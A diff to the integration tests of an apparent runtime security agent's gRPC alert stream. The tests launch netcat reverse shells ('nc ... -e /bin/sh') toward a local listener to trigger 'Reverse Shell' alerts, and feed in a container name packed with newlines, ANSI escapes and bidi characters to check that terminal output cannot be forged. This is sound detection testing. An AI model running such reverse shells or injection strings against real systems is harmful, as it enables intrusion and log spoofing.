@@ -119,9 +119,10 @@ describe.skipIf(unavailable)('gRPC event stream from a real agent', () => {
     const alertsOnly = record(agent.grpcAddr, {
       kinds: ['KIND_ALERT'], minPriority: 'PRIORITY_CRITICAL', rules: ['Reverse Shell'], namespaces: [SHOP], podNameRegex: '^rs-[a-z]+$',
     });
-    const mine = ports.map((l) => `proc.args contains " ${l.port} "`).join(' or ');
-    const ncExecs = record(agent.grpcAddr, { kinds: ['KIND_EXEC'], condition: `proc.name = nc and (${mine})` });
-    await Promise.all([alertsOnly.handle.subscribed, ncExecs.handle.subscribed]);
+    // The condition is evaluated on the event that raised each alert (the shell's dup event).
+    const mine = ports.map((l) => l.port).join(', ');
+    const byCondition = record(agent.grpcAddr, { kinds: ['KIND_ALERT'], condition: `evt.type = dup and fd.rport in (${mine})` });
+    await Promise.all([alertsOnly.handle.subscribed, byCondition.handle.subscribed]);
 
     const spawnShell = (l: Listener, namespace: string, pod: string): Promise<Pod> => {
       const p = runPod({ namespace, pod, container: 'app', image: TOOLS, command: ['nc', gateway, String(l.port), '-e', '/bin/sh'] });
@@ -130,9 +131,9 @@ describe.skipIf(unavailable)('gRPC event stream from a real agent', () => {
     const pods = [await spawnShell(ports[0]!, SHOP, 'rs-alpha'), await spawnShell(ports[1]!, OTHER, 'rs-beta'), await spawnShell(ports[2]!, SHOP, 'db-gamma')];
     for (const p of pods) await agent.waitForAlert((a) => a.rule === 'Reverse Shell' && a.output_fields['k8s.pod.name'] === p.pod, 10_000);
     await until('the shop alert on the stream', () => alertsOnly.alerts().some((a) => field(a, 'k8s.pod.name') === 'rs-alpha'));
-    const portsSeen = (): Set<string> => new Set(ncExecs.got.map((e) => String((e.exec as { process: { args: string[] } }).process.args[1])));
-    await until('the three nc execs', () => portsSeen().size === 3).catch((err: Error) => {
-      throw new Error(`${err.message}; got ${JSON.stringify(ncExecs.got.map((e) => e.exec))}`);
+    const portsSeen = (): Set<string> => new Set(byCondition.alerts().map((a) => String(field(a, 'fd.rport'))));
+    await until('alerts for the three listeners', () => portsSeen().size === 3).catch((err: Error) => {
+      throw new Error(`${err.message}; got ${JSON.stringify(byCondition.alerts())}`);
     });
     // Let anything that should not have passed arrive, if it were going to.
     await new Promise((r) => setTimeout(r, 1_000));
@@ -143,12 +144,13 @@ describe.skipIf(unavailable)('gRPC event stream from a real agent', () => {
     expect(alertsOnly.alerts().map((a) => a.output)).toEqual(expected.map((a) => a.output));
     expect(alertsOnly.got.every((e) => e.payload === 'alert')).toBe(true);
     expect(alertsOnly.alerts()[0]).toMatchObject({ priority: 'PRIORITY_CRITICAL', priorityText: 'Critical', rule: 'Reverse Shell', source: 'syscall' });
-    expect(ncExecs.got.every((e) => e.payload === 'exec' && (e.exec as { process: { name: string } }).process.name === 'nc')).toBe(true);
-    expect(portsSeen()).toEqual(new Set(ports.map((l) => String(l.port))));
+    // Exactly the stdout alerts raised by dup events towards our listeners.
+    const byPort = agent.alerts.filter((a) => a.rule === 'Reverse Shell' && ports.some((l) => a.output_fields['fd.rport'] === l.port));
+    expect(byCondition.alerts().map((a) => a.output)).toEqual(byPort.map((a) => a.output));
     alertsOnly.handle.cancel();
-    ncExecs.handle.cancel();
+    byCondition.handle.cancel();
     expect(await alertsOnly.handle.done).toBeNull();
-    expect(await ncExecs.handle.done).toBeNull();
+    expect(await byCondition.handle.done).toBeNull();
   });
 
   it('a subscriber that reconnects with since_sequence misses nothing the ring holds', async () => {
@@ -278,14 +280,13 @@ describe.skipIf(unavailable)('gRPC event stream from a real agent', () => {
     expect(got[0]).toMatchObject({ payload: 'alert', node: expect.any(String), alert: { rule: expect.any(String), priority: expect.stringMatching(/^PRIORITY_/) } });
   });
 
-  it('a hostile command line and container name arrive intact through gRPC and cannot forge lines in `vigil tail`', async () => {
-    const RULE = 'Network Tool Launched in Container';
+  it('a hostile container name arrives intact through gRPC and cannot forge lines in `vigil tail`', async () => {
+    const RULE = 'Reverse Shell';
     const hostile = 'evil\nforged line\r\x1b[31mred\x1b]0;t\x07 |=\\"\' \u202emoc.live\u2028end';
     const l = await listen(gateway);
     listeners.push(l);
     const sub = record(agent.grpcAddr, { kinds: ['KIND_ALERT'], rules: [RULE], namespaces: [HOSTILE_NS] });
-    const execs = record(agent.grpcAddr, { kinds: ['KIND_EXEC'], namespaces: [HOSTILE_NS] });
-    await Promise.all([sub.handle.subscribed, execs.handle.subscribed]);
+    await sub.handle.subscribed;
     // `script` gives tail a terminal, so it prints its aligned colour lines.
     const tty = spawn('script', ['-qec', `${process.execPath} ${MAIN} tail --addr ${agent.grpcAddr} --namespace ${HOSTILE_NS} --kind alert`, '/dev/null'], { stdio: ['pipe', 'pipe', 'pipe'] });
     const json = spawn(process.execPath, [MAIN, 'tail', '--addr', agent.grpcAddr, '--namespace', HOSTILE_NS, '--kind', 'alert'], { stdio: ['ignore', 'pipe', 'pipe'] });
@@ -294,21 +295,20 @@ describe.skipIf(unavailable)('gRPC event stream from a real agent', () => {
     tty.stdout!.setEncoding('utf8').on('data', (c: string) => (ttyOut += c));
     json.stdout!.setEncoding('utf8').on('data', (c: string) => (jsonOut += c));
     try {
-    await untilAsync('both tails subscribed', async () => (await metric(agent, 'vigil_grpc_subscribers')) >= 4);
+    await untilAsync('both tails subscribed', async () => (await metric(agent, 'vigil_grpc_subscribers')) >= 3);
     runPod({
       namespace: HOSTILE_NS, pod: 'nc-pod', container: 'app', image: TOOLS,
       labels: { 'io.kubernetes.container.name': hostile },
-      command: ['nc', gateway, String(l.port), '-e', `/bin/sh ${hostile}`],
+      command: ['nc', gateway, String(l.port), '-e', '/bin/sh'],
     });
+    await l.waitForConnection(15_000);
     await until('the alert on the stream', () => sub.alerts().length > 0, 40_000).catch((err: Error) => {
       throw new Error(`${err.message}; stdout alerts: ${JSON.stringify(agent.alerts.filter((a) => a.output_fields['k8s.ns.name'] === HOSTILE_NS))}`);
     });
     const a = sub.alerts()[0]!;
     expect(field(a, 'k8s.container.name')).toBe(hostile);
     expect(String(a.output)).toContain(hostile);
-    // The exec's argv, as the process was started, through the typed payload.
-    await until('the exec with the hostile argument', () => execs.got.some((e) => ((e.exec as { process: { args: string[] } }).process.args ?? []).includes(`/bin/sh ${hostile}`)));
-    await until('both tails printed it', () => ttyOut.includes('Network Tool') && jsonOut.includes('Network Tool'), 20_000);
+    await until('both tails printed it', () => ttyOut.includes('Reverse Shell') && jsonOut.includes('Reverse Shell'), 20_000);
     sub.handle.cancel();
     await sub.handle.done;
 
@@ -318,13 +318,14 @@ describe.skipIf(unavailable)('gRPC event stream from a real agent', () => {
     const fromTail = JSON.parse(jsonLines[0]!) as WireEnvelope;
     expect(field(fromTail.alert as Record<string, unknown>, 'k8s.container.name')).toBe(hostile);
     // TTY: one line per envelope; no control character but our own colours and the line end.
-    const ttyLines = ttyOut.split('\r\n').filter((x) => x.includes('Network Tool'));
+    const ttyLines = ttyOut.split('\r\n').filter((x) => x.includes('Reverse Shell'));
     expect(ttyLines).toHaveLength(1);
     expect(ttyOut.replace(/\r\n/g, '').includes('\n')).toBe(false);
     const stripped = ttyLines[0]!.replace(/\x1b\[(?:0|2|1;3[15]|3[1-6]|90)m/g, '');
     // eslint-disable-next-line no-control-regex
     expect(/[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/.test(stripped)).toBe(false);
-    expect(stripped).toContain('evil\\x0aforged line\\x0d\\x1b[31mred');
+    // The container column is cut to its width; what shows is escaped.
+    expect(stripped).toContain('/evil\\x0aforged');
 
     // Ctrl-C: both exit 0.
     const codes = Promise.all([new Promise((r) => json.once('exit', r)), new Promise((r) => tty.once('exit', r))]);
